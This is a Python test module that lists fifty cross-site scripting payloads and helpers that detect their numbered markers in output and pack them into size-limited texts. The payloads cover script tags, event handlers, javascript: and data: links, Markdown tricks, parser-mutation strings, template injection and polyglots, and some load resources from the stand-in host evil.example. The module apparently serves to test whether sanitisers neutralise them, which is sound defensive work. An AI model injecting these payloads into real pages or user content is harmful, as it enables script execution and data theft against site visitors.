"""Fifty texts that would run as script, or fetch from elsewhere, wherever they were taken for more than text."""

from __future__ import annotations

import re
from collections.abc import Iterator

HOST = "evil.example"
"""Where some of them would fetch from."""

RAN = "zq"
"""The name on `window` that each sets when it runs, to its number."""

_WRITTEN = (
    # script elements
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "</title></textarea></style></script><script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    '<script src="https://HOST/a.js">RUN</script>',
    '<svg><script href="data:,RUN"></script></svg>',
    # handlers of events
    "<img src=x onerror=RUN>",
    '<IMG/SRC="x"/ONERROR="RUN">',
    "<svg onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<details open ontoggle=RUN><summary>x",
    '<video><source onerror="RUN"></video>',
    "<audio src onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<body onload=RUN>",
    "<iframe onload=RUN></iframe>",
    # links in HTML
    '<a href="javascript:RUN" autofocus>x</a>',
    '<a href="jav&#x09;ascript:RUN">x</a>',
    '<a href=" \x01javascript:RUN">x</a>',
    '<a href="java\x00script:RUN">x</a>',
    "<a href='vbscript:RUN'>x</a>",
    '<a href="data:text/html,<script>RUN</script>">x</a>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    # Markdown
    "[RUN](javascript:RUN)",
    "[RUN](JaVaScRiPt&colon;RUN)",
    '[RUN](<javascript:RUN> "x\\" onmouseover=RUN")',
    "[RUN](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![RUN](https://HOST/a.png)",
    "![RUN][r]\n\n[r]: https://HOST/b.png",
    '<https://HOST/"onmouseover="RUN>',
    "`<img src=x onerror=RUN>`",
    # what is not closed
    "<img src='https://HOST/?RUN",
    "<<script>RUN//<</script>",
    "<img src=x onerror=RUN //",
    # what becomes another tree when it is read twice
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    # templates, attributes, entities
    "{{constructor.constructor('RUN')()}} ${RUN} <%= RUN %>",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus='RUN' x='",
    "&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62;",
    # style sheets, frames, objects, and what sends elsewhere
    '<p style="background:url(https://HOST/c.png);width:expression(RUN)">',
    "<style>@import 'https://HOST/d.css';</style>RUN",
    '<iframe srcdoc="<script>top.eval(`RUN`)</script>"></iframe>',
    '<object data="data:text/html,<script>RUN</script>"></object><embed src="javascript:RUN">',
    '<base href="https://HOST/RUN/"><meta http-equiv="refresh" content="0;url=javascript:RUN">',
    '<form action="javascript:RUN"><button formaction="javascript:RUN">x</button></form>',
    # many at once, a long one, and full-width signs that normalisation would make narrow
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(RUN)//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>",
    "<img src=x " + "a " * 150 + "onerror=RUN>",
    "＜script＞RUN＜/script＞ [x](ｊａｖａｓｃｒｉｐｔ:RUN)",
)


def _filled(number: int) -> str:
    return _WRITTEN[number - 1].replace("RUN", f"alert(window.{RAN}={number})").replace("HOST", HOST)


PAYLOADS = tuple(_filled(number) for number in range(1, len(_WRITTEN) + 1))
"""Each has its number where people would see it."""

_MARK = re.compile(rf"{RAN}=(\d+)\)")


_CONTROL = re.compile(r"[\x00\x01]")


def marks(text: str) -> set[int]:
    """The numbers of the payloads that stand in `text`."""
    return {int(number) for number in _MARK.findall(text)}


def parcels(limit: int, between: str = "\n\n") -> Iterator[str]:
    """All payloads, without control characters, in as few texts of at most `limit` characters as their order allows."""
    parcel = ""
    for payload in (_CONTROL.sub("", one) for one in PAYLOADS):
        grown = f"{parcel}{between}{payload}" if parcel else payload
        if parcel and len(grown) > limit:
            yield parcel
            grown = payload
        parcel = grown
    yield parcel
